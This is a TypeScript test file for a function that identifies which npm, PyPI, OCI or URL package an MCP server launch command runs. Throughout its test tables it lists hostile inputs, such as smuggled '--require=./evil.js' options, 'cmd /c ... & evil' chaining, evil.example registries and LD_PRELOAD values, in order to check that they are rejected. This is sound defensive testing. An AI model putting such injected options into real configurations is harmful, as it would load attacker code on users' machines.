import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it, test } from 'vitest';
import { fitting } from '../../src/servers/catalogue/match.ts';
import { type Identity, identityOf } from '../../src/servers/packages/identity.ts';
import type { Definition } from '../../src/servers/types.ts';
import { often } from '../effort.ts';
import { slashed } from '../platform.ts';
import { anyDefinition } from './definitions.ts';

/** Words of a line; `␣` stands for a space in a word. */
const words = (line: string): string[] => line.split(' ').map((word) => word.replaceAll('␣', ' '));
const stdio = ([command = '', ...args]: readonly string[], env: Record<string, string> = {}): Definition => ({
  transport: 'stdio',
  command,
  args,
  env,
});
const identity = (line: string, env?: Record<string, string>): Identity =>
  identityOf(stdio(words(line), env));
const names = (line: string, env?: Record<string, string>): string[] => identity(line, env).names;

test.each([
  ['npx -y good', 'npm:good'],
  ['npx good@latest --port 3', 'npm:good'],
  ['npx --yes @scope/good@1.2.3', 'npm:@scope/good'],
  ['/usr/local/bin/npx -y good', 'npm:good'],
  ['C:\\Program␣Files\\nodejs\\npx.cmd -y good', 'npm:good'],
  ['npm exec --yes good', 'npm:good'],
  ['npm exec -- good --flag', 'npm:good'],
  ['npm x good -- --flag', 'npm:good'],
  ['npx --loglevel silent good', 'npm:good'],
  ['bunx --bun good', 'npm:good'],
  ['pnpm --reporter silent dlx good', 'npm:good'],
  ['pnpm --loglevel=error dlx good', 'npm:good'],
  ['pnpm dlx --allow-build=esbuild good', 'npm:good'],
  ['bun x good', 'npm:good'],
  ['pnpm dlx good --flag', 'npm:good'],
  ['pnpx good', 'npm:good'],
  ['yarn dlx -q good', 'npm:good'],
  ['cmd /c npx -y good', 'npm:good'],
  ['cmd.exe /d /s /c npx␣-y␣good', 'npm:good'],
  ['env A=b npx good', 'npm:good'],
  ['/usr/bin/env -i -u X npx good', 'npm:good'],
  ['env --ignore-environment --unset=X -- npx good', 'npm:good'],
  ['cmd /c env A=b npx good', 'npm:good'],
  ['uvx good', 'pypi:good'],
  ['uvx --python 3.12 Good-_Server.x@1.0', 'pypi:good-server-x'],
  ['uvx good@latest', 'pypi:good'],
  ['uvx good@2026.1.0rc1', 'pypi:good'],
  ['npx good@^1.2', 'npm:good'],
  ['uvx -p /usr/bin/python3 good', 'pypi:good'],
  ['uvx --python=cpython@3.13t good', 'pypi:good'],
  ['npx --cache /tmp/cache good', 'npm:good'],
  ['uv tool run good[cli]', 'pypi:good'],
  ['pipx run good', 'pypi:good'],
  ['docker run -i --rm -e KEY -v data:/data mcp/good', 'oci:mcp/good'],
  ['docker run --rm docker.io/mcp/good:1.2 --flag', 'oci:mcp/good'],
  ['docker run docker.io/library/good', 'oci:good'],
  ['docker run registry-1.docker.io/mcp/good', 'oci:mcp/good'],
  ['docker run docker.io/library/mcp/good', 'oci:library/mcp/good'],
  [`podman run -i ghcr.io/x/good@sha256:${'a'.repeat(64)}`, 'oci:ghcr.io/x/good'],
  ['npx -y mcp-remote https://good.example/mcp --transport http-only', 'url:https://good.example/mcp'],
  ['npx mcp-remote@latest https://good.example/mcp 3334', 'url:https://good.example/mcp'],
  // npm's mcp-remote alone is known to reach the URL.
  ['uvx mcp-remote https://good.example/mcp', 'pypi:mcp-remote'],
  ['docker run -i mcp-remote https://good.example/mcp', 'oci:mcp-remote'],
  ['node node_modules/good/dist/index.js', 'npm:good'],
  // It is there in the folder of the tests; a session may start in another one.
  ['node node_modules/vitest/dist/index.js', 'npm:vitest'],
  ['node /nowhere/node_modules/@scope/good/index.js --flag', 'npm:@scope/good'],
  ['node --disable-warning=DEP0040 /nowhere/node_modules/good/index.js', 'npm:good'],
  ['node --enable-source-maps /nowhere/node_modules/.pnpm/good@1.0.0/node_modules/good/x.js', 'npm:good'],
  ['node C:\\nowhere\\node_modules\\good\\index.js', 'npm:good'],
  ['node /nowhere/node_modules/other/node_modules/good/index.js', 'npm:good'],
])('%s is %s', (line, name) => {
  expect(identity(line)).toEqual({ names: [name] });
});

test('another program of mcp-remote is no URL', () => {
  const line = 'npx -p mcp-remote mcp-remote-client https://good.example/mcp';
  expect(identity(line)).toEqual({ names: ['npm:mcp-remote'], program: 'mcp-remote-client' });
});

test.each([
  // Another program, or one that starts something else.
  './tools/npx good',
  'tools\\npx.cmd good',
  '~/bin/npx good',
  'npx␣good',
  'sh -c npx␣good',
  'npx --call=evil good',
  'npx -c evil good',
  'npx -p good -p evil good',
  'npx -p good',
  'npm exec good --call=evil',
  'npm exec good --registry=https://evil.example',
  'npx --node-options=--require=./evil.js good',
  'npx --script-shell ./evil good',
  'npx --shell-auto-fallback good',
  'pnpm dlx -c good␣;␣evil',
  'pnpm --shell-mode dlx good',
  'uvx --with evil good',
  'uvx --with-editable . good',
  'uvx --overrides evil.txt good',
  'uv run good',
  'pipx run file.py',
  'pipx run https://evil.example/x.py',
  'docker run --entrypoint sh mcp/good',
  'docker run --entrypoint=sh mcp/good',
  'docker exec mcp/good sh',
  'docker --context evil run mcp/good',
  'docker run localhost:5000/MCP/good:x:y',
  'cmd /c npx␣a␣&␣b',
  'cmd /c npx good & evil',
  'cmd /c npx good|evil',
  'cmd /c npx %GOOD%',
  'cmd /v:on /c npx good',
  'cmd /k npx good',
  './cmd /c npx good',
  'bunx --tag evil good',
  'env -S npx␣good',
  'env -C /evil npx good',
  'env PATH=./tools npx good',
  'env NODE_OPTIONS=--require=./evil.js npx good',
  // A package from elsewhere.
  'npx ./good',
  'npx good@file:./evil',
  'npx good@npm:evil',
  'npx github:x/good',
  'npx x/good',
  'npx git+https://evil.example/good',
  'npx https://evil.example/good.tgz',
  'npx good.tgz',
  'npx good.TGZ',
  'npx good.tgz@1.0',
  'npx good@.',
  'npx good@..',
  'npx good@.evil',
  'npx good@evil.tgz',
  'npx -p @scope/good@evil.tar.gz good',
  'npx good@${PWD}',
  'npx good@$PWD',
  'npx --registry https://evil.example good',
  // An option that this runner doesn't know with a value: it starts the value.
  'npx --reporter evil good',
  'npx -y --allow-build evil good',
  'npm --reporter exec x good',
  'pnpm dlx --omit evil good',
  'bunx --loglevel evil good',
  'bun -d x good',
  'pnpm dlx --cache /evil good',
  'npx --prefix ./evil good',
  'npx --userconfig ./evil good',
  'npx ${GOOD}',
  'uvx --from git+https://evil.example/good good',
  'uvx --index https://evil.example good',
  'uvx --index-url=https://evil.example good',
  'uvx --find-links . good',
  'uvx good@git+https://evil.example',
  'uvx good@evil',
  'uvx good@1evil',
  'uvx --from good@.. good',
  // Another interpreter, or a cache that was filled by somebody.
  'uvx --python ./evil good',
  'uvx -p evil/python good',
  'uvx --python=evil good',
  'pipx run --python ./evil good',
  'uvx --cache-dir ./evil good',
  'npx --cache evil good',
  'npx --cache=../evil good',
  // A program that only runs other code.
  'node /nowhere/node_modules/npm/bin/npm-cli.js start',
  'npx -y tsx server.ts',
  'npx -y node@22 server.js',
  'npx -y cross-env A=b npx server.js',
  // No file of a package, or not certainly.
  'node ./good/index.js',
  'node node_modules/good',
  'node node_modules/good/../../evil.js',
  'node node_modules/.bin/good',
  'node my_node_modules/good/index.js',
  'node node_modules/good/${FILE}',
  'node node_modules/good/$FILE',
  'node --require ./evil.js node_modules/good/index.js',
  'node --import=./evil.js node_modules/good/index.js',
  'node -e evil node_modules/good/index.js',
  './node node_modules/good/index.js',
  'deno run node_modules/good/index.js',
  // No URL, or one that isn't what it seems.
  'npx mcp-remote',
  'npx mcp-remote --header x https://good.example/mcp',
  'npx mcp-remote https://good.example@evil.example/mcp',
  'npx mcp-remote https://${GOOD}/mcp',
  'npx mcp-remote file:///good',
])('%s is nothing', (line) => {
  expect(names(line)).toEqual([]);
});

test.each([
  ['npm_config_registry', 'https://evil.example'],
  ['NPM_CONFIG_CALL', 'evil'],
  ['npm_config_node_options', '--require=./evil.js'],
  ['BUN_OPTIONS', '--preload ./evil.js'],
  ['OPENSSL_CONF', '/evil.cnf'],
  ['NODE_OPTIONS', '--require ./evil.js'],
  ['PATH', './tools:/usr/bin'],
  ['PATH', '/usr/bin:'],
  ['PATH', '${PWD}/tools:${PATH}'],
  ['PATH', '$PWD/tools:/usr/bin'],
  ['NODE_EXTRA_CA_CERTS', './evil.pem'],
  ['NODE_EXTRA_CA_CERTS', 'x'],
  ['NODE_COMPILE_CACHE', 'evil'],
  ['VOLTA_HOME', 'evil'],
  ['ASDF_NODEJS_VERSION', 'path:evil'],
  ['BUN_INSTALL', 'evil'],
  ['LD_PRELOAD', './evil.so'],
  ['BUN_CONFIG_REGISTRY', 'https://evil.example'],
  ['COREPACK_NPM_REGISTRY', 'https://evil.example'],
  ['npm_config_cache', './evil'],
  ['NODE_PATH', './evil'],
  ['HOME', './evil'],
  ['USERPROFILE', 'evil'],
  ['XDG_CONFIG_HOME', '/evil'],
])('with %s=%s nothing is certain', (name, value) => {
  expect(names('npx good', { [name]: value })).toEqual([]);
  expect(names('node /nowhere/node_modules/good/index.js', { [name]: value })).toEqual([]);
});

test.each([
  ['uvx good', 'UV_INDEX_URL', 'https://evil.example'],
  ['uvx good', 'PIP_INDEX_URL', 'https://evil.example'],
  ['uvx good', 'PYTHONPATH', './evil'],
  ['uvx good', 'PYTHONUSERBASE', '/evil'],
  ['uvx good', 'UV_PYTHON', './evil'],
  ['uvx good', 'PYENV_VERSION', '3/../evil'],
  ['npx good', 'VOLTA_EVIL', '/evil'],
  ['npx good', 'PATH', '$HOMEX/evil'],
  ['uvx good', 'CONDA_PREFIX', 'evil'],
  ['uvx good', 'SSL_CERT_FILE', 'evil.pem'],
  ['uvx good', 'UV_CACHE_DIR', 'evil'],
  ['podman run mcp/good', 'CONTAINERS_REGISTRIES_CONF', './evil'],
  ['docker run mcp/good', 'DOCKER_HOST', 'tcp://evil.example'],
])('%s with %s is nothing', (line, name, value) => {
  expect(names(line, { [name]: value })).toEqual([]);
});

test('settings that leave the code as it is change nothing', () => {
  const env = {
    PATH: '/home/u/.nvm/bin:${HOME}/bin:$PATH:/usr/bin',
    Path: 'C:\\Windows;%USERPROFILE%\\bin;${env:PATH}',
    NODE_EXTRA_CA_CERTS: '/etc/ssl/company.pem',
    SSL_CERT_FILE: '${HOME}/company.pem',
    VOLTA_HOME: '${env:HOME}/.volta',
    PYENV_ROOT: 'C:\\pyenv',
    PYENV_VERSION: '3.12.1',
    ASDF_NODEJS_VERSION: '22.1.0',
    UV_PYTHON: '3.12',
    VIRTUAL_ENV: '/home/u/venv',
    NODE_OPTIONS: '--max-old-space-size=4096',
    npm_config_prefer_offline: 'true',
    npm_config_cache: '/tmp/cache',
    HOME: '${HOME}',
    GITHUB_TOKEN: 'x',
    ENV: 'production',
    constructor: 'x',
  };
  expect(names('npx good', env)).toEqual(['npm:good']);
  const asHere = { HOME: '/home/u' };
  expect(identityOf(stdio(['npx', 'good'], asHere), asHere).names).toEqual(['npm:good']);
});

test('a variable that the command line sets counts, and not the one of the definition', () => {
  const harmless = { NODE_OPTIONS: '--no-warnings' };
  expect(names('env NODE_OPTIONS=--require=./evil.js npx good', harmless)).toEqual([]);
  expect(names('env NODE_OPTIONS=--no-warnings npx good', { NODE_OPTIONS: '--require=./evil.js' })).toEqual([
    'npm:good',
  ]);
});

test('a file of variables, which may set any, leaves nothing certain', () => {
  expect(identityOf({ ...stdio(['npx', 'good']), envFile: '.env' } as Definition).names).toEqual([]);
});

test('an URL is itself', () => {
  const of = (url: string): string[] => identityOf({ transport: 'http', url, headers: {} }).names;
  expect(of('https://good.example/mcp')).toEqual(['url:https://good.example/mcp']);
  expect(of('HTTPS://Good.Example:443/mcp')).toEqual(['url:https://good.example/mcp']);
  for (const url of [
    'https://good.example@evil.example/mcp',
    'https://:good.example@evil.example/mcp',
    'https:\\\\good.example\\mcp',
    '${URL}',
    'https://good.example/{env:A}/../mcp',
    'x',
    'ftp://a/b',
  ])
    expect(of(url)).toEqual([]);
  expect(of('https://good.example/mcp/other')).not.toEqual(of('https://good.example/mcp'));
});

describe('a file in node_modules', () => {
  const root = mkdtempSync(join(tmpdir(), 'mcphooks-identity-'));
  afterAll(() => rmSync(root, { recursive: true }));
  const put = (folder: string, manifest: unknown): string => {
    const at = join(root, 'node_modules', folder);
    mkdirSync(at, { recursive: true });
    writeFileSync(join(at, 'package.json'), JSON.stringify(manifest));
    return join(at, 'dist', 'index.js').replaceAll(' ', '␣');
  };

  it('is of that package, and has the mcpName of its package.json', () => {
    const file = put('@scope/good', { name: '@scope/good', mcpName: 'io.example/good' });
    const { names, folder } = identity(`node ${file}`);
    expect(names).toEqual(['npm:@scope/good', 'mcp:io.example/good']);
    expect(slashed(folder ?? '')).toBe(slashed(join(root, 'node_modules/@scope/good')));
  });

  it('is of that package where a program on PATH is a link to it', () => {
    put('good-server', { name: 'good-server' });
    const [file, bin] = [join(root, 'node_modules/good-server/cli.js'), join(root, 'bin')];
    writeFileSync(file, '');
    chmodSync(file, 0o755);
    mkdirSync(bin);
    for (const name of ['good', 'npx']) symlinkSync(file, join(bin, name));
    writeFileSync(join(bin, 'copied'), '', { mode: 0o755 });
    const env = { PATH: `${root}/none:${bin}` };
    const of = (line: string, more?: Record<string, string>) => identityOf(stdio(words(line), more), env);
    expect(of('good mcp start')).toMatchObject({ names: ['npm:good-server'], program: 'good' });
    expect(of('env A=b good')).toMatchObject({ names: ['npm:good-server'], program: 'good' });
    const whole = { names: ['npm:good-server'], program: 'good' };
    expect(of(`${bin.replaceAll(' ', '␣')}/good mcp`)).toMatchObject(whole);
    for (const line of ['copied', './good', 'nowhere', 'sh -c good', 'good; evil', `${bin}/none`])
      expect(of(line).names).toEqual([]);
    for (const name of ['PATH', 'Path']) expect(of('good', { [name]: bin }).names).toEqual([]);
    expect(of('npx ./odd').names).toEqual([]);
    expect(identityOf(stdio(['good'])).names).toEqual([]);
  });

  it('is not read where a variable may lead to another', () => {
    put('$X/node_modules/good', { name: 'good', mcpName: 'io.example/good' });
    const file = join(root, 'node_modules/$X/node_modules/good/index.js').replaceAll(' ', '␣');
    expect(identity(`node ${file}`)).toEqual({ names: ['npm:good'] });
  });

  it('is nothing where an alias put another package there', () => {
    const file = put('good', { name: 'evil', mcpName: 'io.example/good' });
    expect(names(`node ${file}`)).toEqual([]);
  });
});

describe('an entry', () => {
  const entry = {
    match: { npm: ['@scope/good-server'], pypi: ['Good_Server'], url: ['https://Good.example/mcp'] },
  };
  const isFor = (line: string, programs?: string[]): boolean =>
    fitting({ ...entry, ...(programs && { programs }) })(identity(line));

  it('is for what has its identity, however it is spelled', () => {
    expect(isFor('npx @scope/good-server')).toBe(true);
    expect(isFor('uvx good.server')).toBe(true);
    expect(isFor('npx mcp-remote https://good.example/mcp')).toBe(true);
    expect(isFor('npx good-server')).toBe(false);
    expect(isFor('uvx good')).toBe(false);
    expect(isFor('npx @other/good-server')).toBe(false);
  });

  it("is for a package's own program, and no other that is run beside the package", () => {
    expect(isFor('npx -p @scope/good-server good-server')).toBe(true);
    expect(isFor('npx --package=@scope/good-server -- good-server --flag')).toBe(true);
    expect(isFor('uvx --from good-server good-server')).toBe(true);
    expect(isFor('npx -p @scope/good-server bash')).toBe(false);
    expect(isFor('uvx --from good-server python')).toBe(false);
    expect(isFor('npx -p @scope/good-server goodsrv', ['goodsrv'])).toBe(true);
    expect(isFor('npx -p @scope/good-server good-server', ['goodsrv'])).toBe(false);
  });
});

const lower = 'abcdefghijklmnopqrstuvwxyz';
const part = fc
  .tuple(
    fc.constantFrom(...lower),
    fc.string({ unit: fc.constantFrom(...lower, '0', '1', '-'), maxLength: 10 }),
  )
  .map((parts) => parts.join(''));
/** Packages whose arguments name the server. */
const RUNS_ANOTHER = [
  'mcp-remote',
  'npm',
  'npx',
  'pnpm',
  'yarn',
  'corepack',
  'node',
  'bun',
  'deno',
  'tsx',
  'ts-node',
  'nodemon',
  'cross-env',
];
const npmName = fc
  .oneof(
    part,
    fc.tuple(part, part).map(([scope, name]) => `@${scope}/${name}`),
  )
  .filter((name) => !RUNS_ANOTHER.includes(name));
/** Ways to run an npm package, each a list of words. */
const RUNS: readonly ((name: string) => string[])[] = [
  (name) => ['npx', '-y', name],
  (name) => ['npm', 'exec', '--', name],
  (name) => ['bunx', name],
  (name) => ['pnpm', 'dlx', name],
  (name) => ['yarn', 'dlx', name],
  (name) => ['env', 'A=b', 'npx', name],
  (name) => ['cmd', '/c', 'npx', '-y', name],
  (name) => ['node', `/nowhere/node_modules/${name}/index.js`],
];
const anyRun = fc.constantFrom(...RUNS);
const word = fc.string({ unit: fc.constantFrom(...lower, ...'-/.=:@'), maxLength: 12 });

describe('of any package', () => {
  it('the name is found in every way to run it, whatever it is given', () => {
    fc.assert(
      fc.property(anyRun, npmName, fc.array(word), (run, name, given) => {
        expect(identityOf(stdio([...run(name), ...given])).names).toEqual([`npm:${name}`]);
      }),
      often(3),
    );
  });

  const ODD: readonly string[] = [
    '--call=evil',
    '--registry=https://evil.example',
    '--userconfig=./evil',
    '--package=evil',
    '--prefix=./evil',
    '--node-options=--require=./evil.js',
    '--script-shell=./evil',
    '--never-heard-of',
    './evil',
    'evil',
    'git+https://evil.example/x',
  ];
  it('nothing else before it leaves its name standing', () => {
    fc.assert(
      fc.property(fc.constantFrom('npx', 'bunx'), npmName, fc.constantFrom(...ODD), (runner, name, odd) => {
        expect(identityOf(stdio([runner, odd, name])).names).not.toContain(`npm:${name}`);
      }),
      often(3),
    );
  });

  it('a relative runner, cmd syntax or a spec from elsewhere gives nothing', () => {
    fc.assert(
      fc.property(anyRun, npmName, fc.constantFrom('./', '../x/', 'a/', '.\\'), (run, name, folder) => {
        const [program = '', ...rest] = run(name);
        expect(identityOf(stdio([folder + program, ...rest])).names).toEqual([]);
      }),
      often(),
    );
    fc.assert(
      fc.property(npmName, word, fc.constantFrom(...'&|<>^%!"\n'), (name, tail, sign) => {
        expect(identityOf(stdio(['cmd', '/c', 'npx', name, `${sign}${tail}`])).names).toEqual([]);
        expect(identityOf(stdio(['cmd', '/c', `npx ${name} ${sign} ${tail}`])).names).toEqual([]);
      }),
      often(),
    );
    fc.assert(
      fc.property(
        npmName,
        fc.constantFrom('file:.', 'npm:evil', 'https://e/x', 'git+ssh://e/x', 'x/y'),
        (name, from) => {
          expect(identityOf(stdio(['npx', `${name}@${from}`])).names).toEqual([]);
        },
      ),
      often(),
    );
  });
});

it('any definition at all has an identity or none, and one only where its words name it', () => {
  fc.assert(
    fc.property(anyDefinition, (definition) => {
      const text = definition.transport === 'stdio' ? [definition.command, ...definition.args].join(' ') : '';
      for (const name of identityOf(definition).names.filter((one) => one.startsWith('npm:')))
        expect(text).toContain(name.slice('npm:'.length));
    }),
    often(10),
  );
});
